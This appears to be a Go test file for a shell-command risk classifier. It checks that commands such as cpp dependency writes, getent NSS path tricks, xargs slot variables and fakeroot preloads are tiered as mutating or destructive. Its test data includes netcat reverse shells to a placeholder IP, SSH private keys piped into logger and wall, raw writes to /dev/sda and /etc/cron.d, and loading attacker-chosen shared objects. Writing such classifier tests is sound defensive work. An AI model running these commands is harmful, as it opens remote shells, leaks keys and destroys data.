package policy

import "testing"

// TestBlindSpotPreprocessorWrites: cpp reads and prints, but its
// dependency options write NAME.d beside the output or in the working
// directory (-MD, -MMD and their long names), the preprocessor proper
// writes what -Wp,… and -Xpreprocessor hand it (-MD FILE, -MF FILE,
// -o FILE), and GCC's diagnostics and module dependency files are written
// too. Options whose value is the next word are not taken for the output
// operand.
func TestBlindSpotPreprocessorWrites(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"cpp -MD in.c",
		"cpp -MMD in.c",
		"cpp --write-dependencies in.c",
		"cpp --write-user-dependencies -I inc in.c",
		"cpp -DX=1 -MD src/in.c",
		"cpp -MD -o /srv/out.i in.c",
		"cpp -Wp,-MD,/etc/x in.c",
		"cpp -Wp,-MMD,/var/lib/x in.c",
		"cpp -Wp,-MF,/etc/x -M in.c",
		"cpp -Wp,-DX,-MD,/etc/x in.c",
		"cpp -Wp,-o,/etc/x in.c",
		"cpp -Wp,-o/etc/x in.c",
		"cpp -Wp,-MD in.c",
		"cpp -Xpreprocessor -MD -Xpreprocessor /etc/x in.c",
		"cpp -Xpreprocessor -o -Xpreprocessor /etc/x in.c",
		"cpp -fdiagnostics-format=sarif-file in.c",
		"cpp -fdiagnostics-format=json-file in.c",
		"cpp -fdiagnostics-add-output=sarif:file=/etc/x in.c",
		"cpp -fdiagnostics-set-output=sarif in.c",
		"cpp -fdeps-format=p1689r5 -fdeps-file=/etc/x in.c",
		"cpp -include x.h in.c /etc/out",
		"cpp -MT x in.c /etc/out",
	))
	runBlindHosts(t, p, []blindCase{
		{"-Wp,-MD device", "cpp -Wp,-MD,/dev/sda in.c", TierDestructive, true},
		{"-Xpreprocessor -MF device", "cpp -Xpreprocessor -MF -Xpreprocessor /dev/sda -M in.c", TierDestructive, true},
		{"-fdeps-file device", "cpp -fdeps-file=/dev/sda in.c", TierDestructive, true},
		{"-MD after cd to cron.d", "cd /etc/cron.d && cpp -MD job.c", TierDestructive, false},
		{"-Wp,-MD sensitive", "cpp -Wp,-MD,/etc/sudoers in.c", TierDestructive, false},
	})
	runExactHosts(t, p, []exactCase{
		{"plain", "cpp in.c", TierRead},
		{"defines", "cpp -DX=1 -D Y=2 -UZ in.c", TierRead},
		{"includes", "cpp -I /usr/include -Iinc -isystem /usr/local/include in.c", TierRead},
		{"-include", "cpp -include config.h in.c", TierRead},
		{"-imacros", "cpp -imacros defs.h -P in.c", TierRead},
		{"-M", "cpp -M in.c", TierRead},
		{"-MM -MT", "cpp -MM -MT obj/in.o in.c", TierRead},
		{"-MQ", "cpp -M -MQ '$(OBJ)' in.c", TierRead},
		{"-dM", "cpp -dM -E - < /dev/null", TierRead},
		{"-x", "cpp -x c -std=c11 in.c", TierRead},
		{"-Wp,-D", "cpp -Wp,-DX=1 in.c", TierRead},
		{"json diagnostics to stderr", "cpp -fdiagnostics-format=json in.c", TierRead},
	})
}

// TestBlindSpotBinutilsPluginAbbrev: the binary tools read long options
// with getopt_long, so any unambiguous prefix of --plugin loads the
// shared object it names, as --plugin does.
func TestBlindSpotBinutilsPluginAbbrev(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		"nm --plu=/tmp/x.so a.o",
		"nm --plug /tmp/x.so a.o",
		"nm --plugi=/tmp/x.so a.o",
		"nm --pl /tmp/x.so a.o",
		"nm -A --plu /tmp/x.so a.o",
		"nm --defined-only --plug=/tmp/x.so a.o",
		"objdump --plu=/tmp/x.so -d a.o",
		"size --plug /tmp/x.so a.o",
	))
	runExactHosts(t, p, []exactCase{
		{"nm", "nm -C --defined-only a.o", TierRead},
		{"nm --print-size", "nm --print-size --size-sort a.o", TierRead},
		{"nm --portability", "nm --portability a.o", TierRead},
		{"nm -P", "nm -P a.o", TierRead},
		{"objdump --private-headers", "objdump --private-headers a.o", TierRead},
	})
}

// TestBlindSpotNSSServiceName: getent -s names the NSS services it
// loads as libnss_NAME.so.2, and glibc opens a name with a slash as a path
// relative to the working directory (getent -s 'x/../evil' passwd loads
// ./evil.so.2 once a libnss_x directory exists): such a name, in any
// getopt spelling or per database, and one computed at run time load a
// shared object of the caller's choosing.
func TestBlindSpotNSSServiceName(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		"getent -s 'x/../evil' passwd root",
		"getent -sx/../evil passwd",
		"getent -is x/../evil passwd",
		"getent -s x/../../tmp/evil hosts a",
		"getent --service='x/../evil' passwd",
		"getent --service x/../evil group",
		"getent --serv=x/../evil passwd",
		"getent -s passwd:/tmp/evil passwd",
		"getent -s 'hosts:files passwd:x/../e' passwd",
		"getent -s \"$S\" passwd",
		"cd /tmp && getent -s l/../e passwd",
	))
	runExactHosts(t, p, []exactCase{
		{"passwd", "getent passwd root", TierRead},
		{"hosts", "getent hosts example.com", TierRead},
		{"-s files", "getent -s files passwd", TierRead},
		{"-s db:service", "getent -s passwd:sss passwd alice", TierRead},
		{"--service", "getent --service=systemd group", TierRead},
		{"-i ahosts", "getent -i ahosts example.com", TierRead},
	})
}

// TestBlindSpotTarSnapshotAndTape: tar -d/--diff/--compare creates or
// rewrites the snapshot file -g names (seen with GNU tar 1.34), in every
// spelling of -g and in the traditional "tar dgf SNAP A"; TAPE names the
// archive tar opens when no -f does (TAPE=/etc/x tar c /srv writes
// /etc/x, a HOST:FILE one is reached through rsh). -g /dev/null names no
// file, and listing stays a read.
func TestBlindSpotTarSnapshotAndTape(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"tar -d -f a.tar -g /etc/x",
		"tar --diff -f a.tar --listed-incremental=/etc/x",
		"tar --compare --file=a.tar --listed-inc /etc/x",
		"tar --diff --fil a.tar --listed-i=/etc/x",
		"tar --diff --file a.tar --listed-incremental /srv/snap",
		"tar dgf /etc/x a.tar",
		"tar -dvg /etc/x -f a.tar",
		"tar -d -f a.tar -g \"$SNAP\"",
		"TAPE=/etc/x tar c /srv",
		"TAPE=/dev/st0 tar tv",
		"TAPE=backup:/dev/st0 tar t",
		"export TAPE=/srv/a.tar; tar c /etc/hostname",
		"env TAPE=/etc/x tar c /srv",
	))
	runBlindHosts(t, p, []blindCase{
		{"-g device", "tar -d -f a.tar -g /dev/sda", TierDestructive, true},
		{"traditional g device", "tar dfg a.tar /dev/sda", TierDestructive, true},
		{"-g cron.d", "tar -df a.tar -g /etc/cron.d/x", TierDestructive, false},
	})
	runExactHosts(t, p, []exactCase{
		{"list", "tar -tvf a.tar", TierRead},
		{"list -g /dev/null", "tar -tvf a.tar -g /dev/null", TierRead},
		{"diff -g /dev/null", "tar -d -f a.tar -g /dev/null", TierRead},
		{"list -G", "tar -G -tvf a.tar", TierRead},
		{"--list is not --listed-incremental", "tar --list -f a.tar", TierRead},
		{"--file abbreviated", "tar --list --fil a.tar", TierRead},
		{"diff", "tar --diff -f a.tar -C /", TierRead},
	})
}

// TestBlindSpotBrewInfoGithub: brew info --github opens the formula's
// source page in a browser, as brew home does.
func TestBlindSpotBrewInfoGithub(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"brew info --github wget",
		"brew info wget --github",
		"brew info --gith wget",
		"brew info --cask --github firefox",
	))
	runExactHosts(t, p, []exactCase{
		{"info", "brew info wget", TierRead},
		{"info --json", "brew info --json=v2 --installed", TierRead},
	})
}

// TestBlindSpotTsharkPreferenceFiles: a tshark preference ending in
// debug_file (tls.debug_file, dtls.debug_file, ssl.debug_file) is a file
// tshark opens for writing, truncating it, when it applies -o; a -C
// profile named with a slash is a directory outside the profiles
// directory whose preferences can name one.
func TestBlindSpotTsharkPreferenceFiles(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"tshark -o tls.debug_file:/etc/x -r a.pcap",
		"tshark -o 'ssl.debug_file:/var/lib/x' -r a.pcap",
		"tshark -otls.debug_file:/etc/x -r a.pcap",
		"tshark -nr a.pcap -o tls.debug_file:/etc/x",
		"tshark -r a.pcap -o dtls.debug_file:/srv/log",
		"tshark -o \"$PREF\" -r a.pcap",
		"tshark -C ../../../../tmp/p -r a.pcap",
		"tshark -C /tmp/p -r a.pcap",
		"tshark -C \"$PROFILE\" -r a.pcap",
	))
	runBlindHosts(t, p, []blindCase{
		{"debug file device", "tshark -o dtls.debug_file:/dev/sda -r a.pcap", TierDestructive, true},
		{"debug file cron.d", "tshark -o tls.debug_file:/etc/cron.d/x -r a.pcap", TierDestructive, false},
	})
	runExactHosts(t, p, []exactCase{
		{"read", "tshark -r a.pcap -Y http", TierRead},
		{"keylog read", "tshark -o tls.keylog_file:/srv/keys -r a.pcap", TierRead},
		{"debug to stderr", "tshark -o tls.debug_file:- -r a.pcap", TierRead},
		{"analysis pref", "tshark -r a.pcap -o tcp.analyze_sequence_numbers:FALSE", TierRead},
		{"named profile", "tshark -C work -r a.pcap", TierRead},
	})
}

// TestBlindSpotReaderWriteVars: variables that make a reading program
// write a file: BLKID_FILE is blkid's -c (BLKID_FILE=/etc/x blkid created
// /etc/x, tried), DEBUGINFOD_CACHE_PATH where readelf and objdump keep
// the debug files they fetch; however they are set.
func TestBlindSpotReaderWriteVars(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"BLKID_FILE=/etc/x blkid",
		"BLKID_FILE=/etc/x blkid /dev/sda1",
		"export BLKID_FILE=/etc/x; blkid",
		"env BLKID_FILE=/srv/x blkid -o list",
		"declare -x BLKID_FILE=/etc/x; lsblk -f",
		"DEBUGINFOD_CACHE_PATH=/etc/x readelf -wK a.out",
		"export DEBUGINFOD_CACHE_PATH=/var/lib/x; objdump -Wk a.out",
	))
	runExactHosts(t, p, []exactCase{
		{"blkid", "blkid", TierRead},
		{"blkid -c /dev/null", "blkid -c /dev/null /dev/sda1", TierRead},
		{"cache under /tmp", "DEBUGINFOD_CACHE_PATH=/tmp/dbg readelf -wK a.out", TierRead},
	})
}

// TestBlindSpotGitConfigVerbs: git 2.46's "git config get" and "list"
// read, with any operands, where they come first; anywhere else "get" is
// a key or an option's value, and setting stays a write (a program key
// tier 3).
func TestBlindSpotGitConfigVerbs(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, []blindCase{
		{"--comment get", "git config --global --comment get core.pager evil", TierDestructive, false},
		{"--file get", "git config --file get core.pager evil", TierDestructive, false},
		{"get after an option", "git config --global get core.pager", TierDestructive, false},
		{"-C get", "git -C get config core.pager evil", TierDestructive, false},
		{"value get", "git config x.y get", TierMutate, false},
		{"set", "git config set user.name x", TierMutate, false},
		{"set program key", "git config set core.pager 'touch /tmp/x'", TierDestructive, false},
	})
	runExactHosts(t, p, []exactCase{
		{"get", "git config get user.name", TierRead},
		{"get --all", "git config get --all remote.origin.fetch", TierRead},
		{"get --url", "git config get --url=https://example.com http.proxy", TierRead},
		{"get --show-origin", "git config get --show-origin core.editor", TierRead},
		{"list", "git config list --show-scope", TierRead},
		{"--get", "git config --get user.email", TierRead},
	})
}

// TestBlindSpotBroadcastInput: logger, wall and systemd-cat write what
// they are given where more people read it than its source (the system
// log, every terminal, the journal), so logger -f FILE's rule holds for
// every way a file or a command's output reaches them: input from a
// file or a pipe, wall's one operand that may name a file, and the
// command systemd-cat runs. Messages the command states stay tier 1.
func TestBlindSpotBroadcastInput(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"logger < /etc/ssh/ssh_host_ed25519_key",
		"cat /root/.ssh/id_ed25519 | logger",
		"logger -t x < /srv/app/.env",
		"logger -t x -p user.info < /etc/x",
		"logger --tag=x 0< /etc/x",
		"systemd-cat < /etc/x",
		"cat /etc/x | systemd-cat -t y",
		"systemd-cat cat /srv/app/.env",
		"systemd-cat -t x -p info cat /etc/x",
		"wall < /etc/x",
		"cat /etc/x | wall",
		"wall /srv/app/.env",
		"wall -n /etc/x",
		"cd /etc && wall shadow",
		"wall \"$F\"",
	))
	runExactHosts(t, p, []exactCase{
		{"logger message", "logger -t backup 'backup done'", TierBenign},
		{"logger words", "logger hello world", TierBenign},
		{"logger echo", "echo 'backup done' | logger -t backup", TierBenign},
		{"logger here-string", "logger -t x <<< 'literal text'", TierBenign},
		{"wall message", "wall 'going down in 5 minutes'", TierBenign},
		{"wall -n message", "wall -n 'maintenance at 5pm, save your work'", TierBenign},
		{"wall echo", "echo 'reboot soon' | wall", TierBenign},
		{"systemd-cat echo", "echo hi | systemd-cat -t x", TierBenign},
	})
}

// TestBlindSpotXargsSlotVariable: xargs --process-slot-var=NAME sets NAME
// to the child's slot number (0, 1, …) before it looks the command up, so
// PATH=0 runs ./0/ls for ls (tried) and BASH_ENV=0 sources ./0: the name
// decides as in env NAME=0, in every abbreviation getopt_long takes.
func TestBlindSpotXargsSlotVariable(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		"xargs --process-slot-var=PATH ls",
		"xargs --process-slot-var PATH ls",
		"xargs --process-s=PATH ls",
		"xargs -P4 --process-slot-var=BASH_ENV bash x.sh",
		"xargs --process-slot-var=GIT_CONFIG_GLOBAL git log",
		"xargs --process-slot-var=HOME git status",
		"xargs --process-slot-var=LD_PRELOAD ls",
		"find . | xargs --proc=PYTHONSTARTUP python3 -i",
	))
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"xargs --process-slot-var=TMPDIR sort",
	))
	runExactHosts(t, p, []exactCase{
		{"slot", "xargs -P4 --process-slot-var=SLOT echo", TierRead},
		{"slot job", "xargs -P 4 --process-slot-var=JOB ls -l", TierRead},
	})
}

// TestBlindSpotPreloadWrapperOptions: fakeroot's -l/--lib is the library
// it preloads into the command and -f/--faked the daemon it starts, in
// every spelling its getopt takes; proxychains' -f and
// PROXYCHAINS_CONF_FILE (any *_CONF_FILE, as *_CONFIG_FILE) name the
// proxies every connection goes through, which host rules cannot check.
func TestBlindSpotPreloadWrapperOptions(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		"fakeroot -l /tmp/x.so ls",
		"fakeroot -l/tmp/x.so ls",
		"fakeroot --lib /srv/x.so ls",
		"fakeroot --lib=/tmp/x.so dpkg-deb -b pkg",
		"fakeroot --li=/tmp/x.so ls",
		"fakeroot -f /tmp/faked ls",
		"fakeroot --faked /tmp/faked ls",
		"PROXYCHAINS_CONF_FILE=/tmp/x proxychains4 curl https://example.com",
		"TORSOCKS_CONF_FILE=/tmp/x torsocks curl https://example.com",
	))
	runBlindHosts(t, p, sameCases(TierMutate, false,
		"proxychains -f /tmp/x.conf ls",
		"proxychains4 -q -f /tmp/x.conf curl https://example.com",
		"proxychains4 -f/tmp/x.conf ls",
	))
	runExactHosts(t, p, []exactCase{
		{"fakeroot", "fakeroot -- ls -l", TierRead},
		{"fakeroot state", "fakeroot -i /srv/state ls", TierRead},
		{"proxychains", "proxychains4 -q ls", TierRead},
	})
}

// TestBlindSpotDigitFlagsInClusters: getopt takes digits as option
// letters (ssh and nc -4/-6, tar's -0…-9 drive numbers), so a cluster
// holding one still ends in the option that takes a value: nc -4e runs
// its program, tar -c0f /dev/sda writes the disk, ssh-keyscan -4f reads
// its hosts from a file.
func TestBlindSpotDigitFlagsInClusters(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, []blindCase{
		{"tar -c0f device", "tar -c0f /dev/sda /srv", TierDestructive, true},
		{"tar -c7f device", "tar -c7f /dev/sdb /srv", TierDestructive, true},
		{"nc -4e", "nc -4e /bin/sh 192.0.2.1 4444", TierDestructive, false},
		{"nc -6lc", "nc -6lc sh 9999", TierDestructive, false},
		{"ncat -4e", "ncat -4e /bin/sh 192.0.2.1 4444", TierDestructive, false},
		{"netcat -4ve", "netcat -4ve /bin/sh 192.0.2.1 4444", TierDestructive, false},
		{"ssh-keyscan -4f", "ssh-keyscan -4f /tmp/hosts", TierMutate, false},
		{"ssh-keyscan -4Hf", "ssh-keyscan -4Hf/tmp/hosts", TierMutate, false},
		{"ssh-keyscan -Hf", "ssh-keyscan -Hf /tmp/hosts", TierMutate, false},
		{"fping -qf", "fping -qf /tmp/hosts", TierMutate, false},
		{"fping --fi=", "fping --fi=/tmp/hosts", TierMutate, false},
	})
	runExactHosts(t, p, []exactCase{
		{"ping -4c", "ping -4c 1 db2", TierRead},
		{"tar -tv0f", "tar -tv0f a.tar", TierRead},
		{"xz -9c", "xz -9c f", TierRead},
	})
}
